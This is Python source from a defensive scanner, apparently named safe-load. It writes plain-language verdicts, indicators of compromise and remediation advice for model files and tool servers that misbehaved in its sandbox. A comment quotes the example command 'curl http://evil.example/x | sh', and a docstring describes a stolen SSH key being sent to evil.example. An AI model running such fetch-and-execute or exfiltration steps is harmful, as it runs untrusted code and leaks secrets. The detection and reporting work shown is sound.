"""What a reader must know in ten seconds: what the source did, from where, and what to do now.

The strings in it are still hostile: each format makes them visible where it writes them down.
"""

from __future__ import annotations

import re
from collections import Counter
from typing import TYPE_CHECKING

from safe_load.core.report import SEVERITIES
from safe_load.render import places, story
from safe_load.render.acts import Act, bare, listing
from safe_load.render.story import plural

if TYPE_CHECKING:
    from collections.abc import Sequence

    from safe_load.core.report import Finding, Origin, Report

#: Characters of what a finding says, where it is the reason for a verdict.
_LONGEST_REASON = 300
#: Names in one sentence; more are counted.
_MOST_NAMES = 3
#: Hosts and digests that a reader is told to look for, in the forms that are read at a glance.
MOST_INDICATORS = 6
#: A host in a command such as "curl http://evil.example/x | sh".
_ADDRESS = re.compile(r"\b(?:https?|ftp)://([\w.-]{1,253}(?::\d{1,5})?)", re.ASCII)
#: What one can do about a finding that is no behaviour. Those on behaviour share one advice.
ADVICE = {
    "SL501": "Ask the author what the call is for, or for the weights as safetensors.",
    "SL502": "Read the code before you run it and pin it to a commit, or ask for weights without code.",
    "SL503": "Find out from the model's page why its configuration asks for this. No cleared copy holds these keys.",
    "SL504": "Do not use the template: a template that only puts text together needs no such thing.",
    "SL505": "Do not use the folder: no tool writes such a path by itself.",
    "SL506": "Ask the author for safetensors, or for a plain state dict.",
    "SL507": "Unpack the file and scan what it holds, or remove it. `safe-load load` leaves it out.",
    "SL601": "Do not use the file: it loads as other weights than its bytes hold.",
    "SL602": "Download the file again, and compare its SHA-256 with the publisher's.",
    "SL603": "Do not load it on a machine that others share; no honest file needs so much.",
    "SL701": "Pin a commit that a branch of the repository holds.",
    "SL702": "Compare the publisher's name letter by letter with the one that you meant.",
    "SL703": "Load the model from the publisher that made it, or find out who this one is.",
    "SL704": "Write the pin: a commit never changes.",
    "SL705": "Load it from a publisher that your policy names, or change the policy.",
    "SL707": "Load the model that it is made from, or find out who changed it and why.",
    "SL708": "Do not use it: somebody has examined this very file, or this repository.",
    "SL706": "Tell whose key it is to revoke it: whoever has read the file may use it.",
    "SL710": "Do not use the files. Get model and signature again from the publisher.",
    "SL711": "Compare with the publisher's files; a model that was edited needs a signature of its own.",
    "SL712": "Remove the file, or have the publisher sign it too.",
    "SL713": "Ask the publisher for a signature, or name in the trust file who signed.",
    "SL715": "Have the source opened and attested by the owner of the key, or open it here.",
    "SL714": "Ask for a signature in the OpenSSF model-signing format, of whole files by SHA-256.",
    "SL801": "Do not use the model; take the base from its publisher and convert it yourself.",
    "SL803": "Ask who changed it and why; compare it with safe-load diff, or take the base from its publisher.",
    "SL802": "Do not use the model, or only where nobody else writes its prompts; take the base from its publisher.",
    "SL901": "Do not use the server: honest texts have no need of characters that nobody sees.",
    "SL902": "Read the whole text in the report, and do not use a server that gives a model orders.",
    "SL903": "Read both servers' texts, and remove a stranger's that speaks of your other tools.",
    "SL904": "Compare the two definitions before you approve the new one.",
    "SL911": "See who publishes it, pin it, and commit the new register with the change that brings it in.",
    "SL912": "Pin it as it was, or commit the new register if that was meant.",
    "SL913": "Read what changed between the two versions before you commit the new register.",
    "SL914": "Read the reasons in the register's row, and leave the link out until they are cleared up.",
    "SL915": "Remove it, and look in logs and lock files for where it was installed already.",
    "SL916": "Mend or exclude the file: links that it names are in no register.",
    "SL917": "Pin it with the line that the register gives.",
    "SL918": "Pin it to a commit, a digest or one version.",
    "SL919": "Compare the two definitions before you commit the new register.",
}


def cause(report: Report) -> Origin | None:
    """The call in a file that most of what happened came from, else the gravest call that was read."""
    counted = Counter(
        found.origin for found in story.counting(report) if found.origin and found.evidence
    )  # structs that are frozen are hashable
    if counted:
        return counted.most_common(1)[0][0]
    first = next(iter(story.counting(report)), None)
    return first.origin if first else None


def is_call(origin: Origin | None, other: Origin | None) -> bool:
    """Whether both are one call of a file."""
    if origin is None or other is None:
        return False
    return (origin.file, origin.member, origin.offset) == (other.file, other.member, other.offset)


def reason(report: Report, done: Sequence[Act]) -> list[str]:
    """Why the verdict is as it is: one to three sentences, [] where the headline says it all."""
    judged = [act for act in done if act.findings]
    if not story.counting(report) or not (judged or report.outcome == "rejected"):
        said = story.outcome(report)
        return [said] if said else []
    origin, sentences = cause(report), []
    if origin is not None and (judged or is_call(origin, _gravest(report).origin)):
        where = f"byte {origin.offset}" + (f" of {origin.member}" if origin.member else "")
        given = "" if judged else _clipped(f" with {_gravest(report).origin.arguments}", 120)  # type: ignore[union-attr]
        sentences.append(
            f"{origin.file} calls {origin.callable}{given} when it is opened ({where})."
        )
    if judged and (told := _told(judged)):
        sentences.append(f"{'It' if sentences else _subject(report)} {told}.")
    if not sentences:
        worst = _gravest(report)
        sentences.append(_clipped(detail(worst) or worst.title))
    if report.outcome not in ("ok", "rejected"):
        sentences.append(story.outcome(report))
    return sentences


def detail(finding: Finding) -> str:
    """What a finding says, without the call that led to it where a reader sees that beside it."""
    return (
        finding.detail.partition(" (The call came from ")[0] if finding.origin else finding.detail
    )


def _gravest(report: Report) -> Finding:
    return story.counting(report)[0]


def _clipped(text: str, most: int = _LONGEST_REASON) -> str:
    return text if len(text) <= most else f"{text[: most - 1]}…"


def _told(done: Sequence[Act]) -> str:
    """ "stole an SSH key (a decoy) and tried to send it to evil.example:80 and to run a program"."""
    stolen = list(dict.fromkeys(name for act in done for name in act.carries))
    reads = [act.short for act in done if act.verb == "read"]
    baits = [act.short for act in done if act.verb == "read" and act.wall == "decoy"]
    sent, asked = _names(done, "sent"), _names(done, "asked")
    parts: list[str] = []
    tried: list[str] = []
    if stolen:
        what = listing(stolen) if len(stolen) <= 2 else f"{len(stolen)} credentials"
        parts.append(f"stole {what} ({'a decoy' if len(stolen) == 1 else 'decoys'})")
        them = "it" if len(stolen) == 1 else "them"
        tried.append(f"send {them} to {_some(sent or asked, 'address', 'addresses')}")
    else:
        if baits:
            decoys = "a decoy" if len(baits) == 1 else "decoys"
            parts.append(f"read {_some(baits, 'credential')} ({decoys})")
        elif reads:
            tried.append(f"read {_some(reads, 'file')}")
        if sent:
            tried.append(f"send data to {_some(sent, 'address', 'addresses')}")
        elif asked:
            parts.append(f"looked up {_some(asked, 'host name')}")
    if met := _names(done, "contacted"):
        tried.append(f"reach {_some(met, 'address', 'addresses')}")
    if ran := _names(done, "ran"):
        tried.append("run a program" if len(ran) == 1 else f"run {len(ran)} programs")
    if changed := _names(done, "wrote", "deleted", "renamed", "changed"):
        tried.append(f"change {_some(changed, 'file')}")
    if called := _names(done, "called"):
        tried.append(f"make {plural(len(called), 'system call')} that no load needs")
    if tried:
        parts.append(f"tried to {listing([tried[0], *(f'to {each}' for each in tried[1:])])}")
    return listing(parts)


def _names(done: Sequence[Act], *verbs: str) -> list[str]:
    return list(dict.fromkeys(act.short for act in done if act.verb in verbs))


def _some(names: Sequence[str], one: str, many: str = "") -> str:
    """The name where it is one, else how many."""
    if len(names) == 1:
        return _clipped(names[0], 100)
    return f"{len(names)} {many or f'{one}s'}"


def _is_of_tool(report: Report) -> bool:
    """Whether a tool was run, and no model opened."""
    return report.sandbox.profile == "tool"


def _subject(report: Report) -> str:
    return "The tool" if _is_of_tool(report) else "The model"


def calming(report: Report, done: Sequence[Act]) -> list[str]:
    """What did not happen: the first question of who reads such a list of acts."""
    said = []
    let_out = [each for each in report.connections if each.decision == "allowed"]
    if let_out:
        named = listing(list(dict.fromkeys(each.rule for each in let_out)))
        said.append(
            f"{plural(len(let_out), 'connection')} went out, as --allow asked: {named}. Nothing else left this machine."
        )
    elif done:
        caught = any(act.verb == "sent" and act.wall == "sinkhole" for act in done)
        where = ": the sandbox caught it" if caught else ""
        said.append(f"Nothing left this machine{where}.")
    if report.outcome == "rejected" and not _is_of_tool(report):
        if report.export is None:
            said.append("Nothing was exported.")
        else:
            said.append("A copy was exported all the same, as the command line asked.")
    return said


def hosts(done: Sequence[Act]) -> list[str]:
    """Names and addresses to look for in logs: a name where one was looked up, else address and port."""
    names = {act.what for act in done if act.verb == "asked"}
    found = []
    for act in done:
        if act.verb in ("sent", "contacted", "asked") and not act.what.startswith(("/", "@")):
            host = act.what.rpartition(":")[0]
            found.append(host if host in names else act.what)
    return list(dict.fromkeys(found))


def indicators(done: Sequence[Act]) -> list[str]:
    """The same, and the hosts that the commands it tried to run name in addresses of the web."""
    named = [host for act in done if act.verb == "ran" for host in _ADDRESS.findall(act.what)]
    return list(dict.fromkeys((*hosts(done), *named)))


def credentials(report: Report, done: Sequence[Act]) -> list[str]:
    """What to renew wherever the file was opened without a room, without articles: "SSH key"."""
    taken = [decoy.what for decoy in report.decoys]
    taken += [name for act in done for name in act.carries]
    return [bare(name) for name in dict.fromkeys(taken)]


def digests(report: Report) -> list[tuple[str, str]]:
    """Path and SHA-256 of the files that findings of medium or above name."""
    named: set[str] = set()
    for finding in story.counting(report):
        if SEVERITIES.index(finding.severity) >= SEVERITIES.index("medium"):
            named.add(finding.origin.file if finding.origin else "")
            named |= {*places.beginnings(finding.location)}
    return [(file.path, file.sha256) for file in report.files if file.path in named and file.sha256]


def advice(report: Report, done: Sequence[Act]) -> list[str]:
    """What to do now, the first thing first. [] for a source that may be used."""
    if report.verdict not in ("malicious", "suspicious") or not story.counting(report):
        return []
    worst = _gravest(report)
    if any(act.gravity > 2 for act in done) or (worst.id == "SL501" and worst.severity == "high"):
        return ["Do not use it.", *_elsewhere(report, done)]
    said = dict.fromkeys(
        ADVICE[found.id]
        for found in story.counting(report)
        if found.id in ADVICE and found.severity != "low"
    )
    if done and any(act.findings for act in done):
        return ["Do not use it before you know why it does this.", *said]
    if report.verdict == "malicious" and not any(line.startswith("Do not use") for line in said):
        return ["Do not use it.", *said]
    return list(said)


def _elsewhere(report: Report, done: Sequence[Act]) -> list[str]:
    """For a machine on which nothing held it."""
    todo = []
    if secrets := credentials(report, done):
        todo.append(f"rotate the {listing(secrets)} of that machine")
    if places := indicators(done):
        more = len(places) - MOST_INDICATORS
        shown = [*places[:MOST_INDICATORS], *([f"{more} more"] if more > 0 else [])]
        todo.append(f"search its logs for {listing(shown)}")
    if not todo or (not secrets and any(act.verb == "ran" for act in done)):
        todo.insert(0, "treat that machine as compromised")
    return [f"If it was ever opened without safe-load, {' and '.join(todo)}."]
